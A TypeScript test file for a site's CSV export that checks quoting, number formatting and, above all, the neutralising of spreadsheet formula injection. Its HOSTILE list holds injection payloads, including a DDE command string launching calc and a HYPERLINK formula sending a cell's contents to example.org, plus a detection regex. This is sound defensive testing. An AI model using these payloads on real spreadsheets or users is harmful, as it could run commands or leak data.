import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { type Column, type CsvValue, csvText } from '../../../src/site/feeds/csv.ts';
import { parseCsv } from '../../helpers/parse-csv.ts';

const COLUMNS: readonly Column<readonly CsvValue[]>[] = [
  ['first', (row) => row[0] ?? null],
  ['second', (row) => row[1] ?? null],
];

/** The one cell of a table, as a reader of CSV gets it. */
function read(value: CsvValue): string | undefined {
  return parseCsv(csvText([['only', (row: CsvValue) => row]], [value]))[1]?.[0];
}

/** What a spreadsheet would take for a formula. */
const RUNS = /^[\s\p{C}"‘’“”]*[=+\-@＝＋－＠]|^[\t\r]/u;

const HOSTILE = [
  '=1+1',
  '+1',
  '-1',
  '@SUM(A1)',
  '\tx',
  '\rx',
  ' =1+1',
  '"=1+1',
  "'=1+1",
  '\u00a0\u200b=1',
  '\n=1',
  '＝1+1',
  '=HYPERLINK("https://example.org?"&A1,"x")',
  "=cmd|' /C calc'!A0",
];

describe('a table as CSV', () => {
  it('is a byte order mark, a header row and rows, CRLF after each', () => {
    expect(csvText(COLUMNS, [['a', 1]])).toBe('\ufefffirst,second\r\na,1\r\n');
    expect(csvText(COLUMNS, [])).toBe('\ufefffirst,second\r\n');
  });

  it('quotes what would end a cell, and doubles quotes', () => {
    expect(csvText(COLUMNS, [['a,b', 'say "so"']])).toContain('\r\n"a,b","say ""so"""\r\n');
    expect(csvText(COLUMNS, [['one\ntwo', ' blank ']])).toContain('\r\n"one\ntwo"," blank "\r\n');
  });

  it('leaves a cell without a value empty, and 0 as 0', () => {
    expect(csvText(COLUMNS, [[null, 0]])).toContain('\r\n,0\r\n');
  });

  it.each([
    [-0.25, '-0.25'],
    [1e-7, '0.0000001'],
    [-2.5e-9, '-0.0000000025'],
    [1.5e21, '1500000000000000000000'],
    [0.1 + 0.2, '0.30000000000000004'],
  ])('writes the number %d without an exponent and without an apostrophe', (value, text) => {
    expect(read(value)).toBe(text);
  });

  it.each(HOSTILE)('does not let %j run', (text) => {
    expect(read(text)).toBe(`'${text.replace('\n=', "\n'=")}`);
  });

  it('does not let a cell run that begins only for a reader of other separators', () => {
    expect(read('a;=1')).toBe("a;'=1");
    expect(read('a;"=1')).toBe('a;"\'=1');
    expect(read('a\n =1')).toBe("a\n '=1");
    expect(read(';=1')).toBe("';'=1");
  });

  it.each(['a-b', 'x = y', 'ann@example.org', 'North; South', '“so” – 5', 'עברית', '東京, 日本', '👩‍🔬 lab'])(
    'leaves %j as it is',
    (text) => {
      expect(read(text)).toBe(text);
    },
  );

  it('drops control characters and halves of characters', () => {
    expect(read('a\u0000\u0007b\ud800c')).toBe('abc');
  });

  const text = fc.oneof(
    fc.string({ unit: 'binary' }),
    fc.string({ unit: fc.constantFrom(...'=+-@\t\r\n ;,"\'＝a1👩ש') }),
    fc.constantFrom(...HOSTILE),
  );
  const number = fc
    .double({ noNaN: true, noDefaultInfinity: true })
    .filter((drawn) => drawn === 0 || Math.abs(drawn) > 1e-80);
  const value = fc.oneof(text, number, fc.constant(null));
  const rows = fc.array(fc.tuple(value, value));

  it('is read back as it was, apostrophes aside', () => {
    const plain = (cell: string) => cell.replaceAll("'", '');
    const wanted = (each: CsvValue) => {
      if (each === null) return '';
      if (typeof each === 'number') return each;
      return plain(each.replace(/[^\t\n\r\u0020-\ud7ff\ue000-\ufffd\u{10000}-\u{10ffff}]|\u007f/gu, ''));
    };
    fc.assert(
      fc.property(rows, (drawn) => {
        const [, ...found] = parseCsv(csvText(COLUMNS, drawn));
        expect(found).toHaveLength(drawn.length);
        for (const [i, row] of drawn.entries()) {
          for (const [j, each] of row.entries()) {
            const cell = found[i]?.[j] ?? 'missing';
            if (typeof each === 'number') {
              // 0 and -0 are the same number.
              expect(Number(cell) === each, cell).toBe(true);
              expect(cell).toMatch(/^-?\d+(?:\.\d+)?$/);
            } else expect(plain(cell)).toBe(wanted(each));
          }
        }
      }),
    );
  });

  it('has no text that runs, whichever separator its reader expects', () => {
    fc.assert(
      fc.property(fc.array(fc.tuple(text, text)), (drawn) => {
        const csv = csvText(COLUMNS, drawn);
        for (const cell of parseCsv(csv).flat()) expect(cell).not.toMatch(RUNS);
        const pieces = csv.replace('\ufeff', '').split(/[;\t\r\n]+/);
        for (const piece of pieces) expect(piece).not.toMatch(/^[\s\p{C}"]*[=+\-@]/u);
      }),
    );
  });
});
